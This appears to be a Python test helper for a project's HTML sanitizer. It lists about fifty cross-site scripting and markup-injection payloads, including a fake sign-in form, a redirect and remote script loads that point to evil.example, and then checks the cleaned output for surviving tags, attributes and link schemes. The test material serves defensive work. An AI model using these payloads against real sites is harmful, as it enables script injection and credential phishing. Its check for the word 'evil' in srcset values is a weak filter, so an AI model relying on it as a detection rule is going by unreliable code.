"""HTML that was made to hurt, and how to see that nothing of it is left alive."""

import re
from html.parser import HTMLParser

from hubserver import markup

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img src='//evil.example/pixel.gif'>",
    "<img src='/packs/media/../../sign-out'>",
    "<img srcset='https://evil.example/a.png 1x'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='x' onerror\n=alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example' target=_top ping='//evil.example'>x</a>",
    "<p style='position:fixed;top:0'>x</p>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<iframe src='//evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='//evil.example'><input name=pin><button>Sign in</button></form>",
    "<button formaction='//evil.example'>x</button>",
    "<textarea></textarea><select><option></select>",
    "<video src=x onerror=alert(1)></video><audio src=x></audio><source src=x>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p onclick=alert(1) onmouseover='alert(1)'>x</p>",
    "<div class='card question now' id=x>x</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml-stylesheet href='//evil.example'?>",
    "<x-y onclick=alert(1)>x</x-y>",
    "<marquee onstart=alert(1)>x</marquee>",
    "</section></main></div><h1>Elsewhere</h1>",
    "<p lang='\"><script>alert(1)</script>'>x</p>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "\x00<\x00script>alert(1)</script>",
]
SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:")
# What a browser leaves out of an address: https://url.spec.whatwg.org/#url-parsing
IGNORED = re.compile(r"^[\0- ]+|[\t\n\r]")


class _Reader(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def tags(html):
    """Every tag with its attributes."""
    reader = _Reader()
    reader.feed(html)
    return reader.found


def alive(html):
    """What could still do something in this fragment; empty when nothing can."""
    return [problem for tag, attributes in tags(html) for problem in _problems(tag, attributes)]


def _allowed(tag):
    return markup.ATTRIBUTES["*"] | markup.ATTRIBUTES.get(tag, set()) | {"class", "rel"}


def _problems(tag, attributes):
    if tag not in markup.TAGS:
        yield f"<{tag}>"
    for name, value in attributes.items():
        value = value or ""
        scheme = SCHEME.match(IGNORED.sub("", value.lower()))
        if not (name in _allowed(tag) or value in markup.VALUES.get(tag, {}).get(name, ())):
            yield f"{name}= on <{tag}>"
        if name == "class" and not set(value.split()) <= markup.CLASSES.get(tag, set()):
            yield f"the class {value}"
        if name == "href" and scheme and scheme[0] not in ("http:", "https:", "mailto:", "tel:"):
            yield f"a link to {value}"
        if name == "src" and not re.fullmatch(r"/packs/media/[0-9a-f]{64}\.[a-z0-9]+", value):
            yield f"a picture from {value}"
        if name == "srcset" and "evil" in value:
            yield f"pictures from {value}"
